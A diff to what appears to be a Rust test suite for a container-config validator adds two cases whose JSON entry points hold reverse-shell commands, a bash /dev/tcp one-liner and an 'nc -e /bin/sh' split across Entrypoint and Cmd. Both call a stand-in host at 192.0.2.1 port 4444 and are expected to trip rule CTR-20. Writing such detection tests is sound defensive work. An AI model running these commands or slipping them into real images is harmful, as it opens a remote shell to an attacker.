@@ -284,6 +284,18 @@ fn configs() -> Vec<Case> {
             swap("{", &format!("{{\"history\":[{{\"comment\":\"{token}\"}}],")),
             "CTR-21",
         ),
+        (
+            "a shell that calls home as the entry point",
+            inside(
+                "\"Entrypoint\":[\"/bin/sh\",\"-c\",\"bash -i >\\u0026 /dev/tcp/192.0.2.1/4444 0>\\u00261\"]",
+            ),
+            "CTR-20",
+        ),
+        (
+            "the parts of it as entry point and command",
+            inside("\"Entrypoint\":[\"nc\",\"-e\"],\"Cmd\":[\"/bin/sh\",\"192.0.2.1\",\"4444\"]"),
+            "CTR-20",
+        ),
         ("deeper than 64", inside(&format!("\"x\":{}{}", "[".repeat(70), "]".repeat(70))), "JSON-01"),
         ("over 8 MiB", inside(&format!("\"x\":\"{}\"", "y".repeat(8 << 20))), "CTR-13"),
     ];
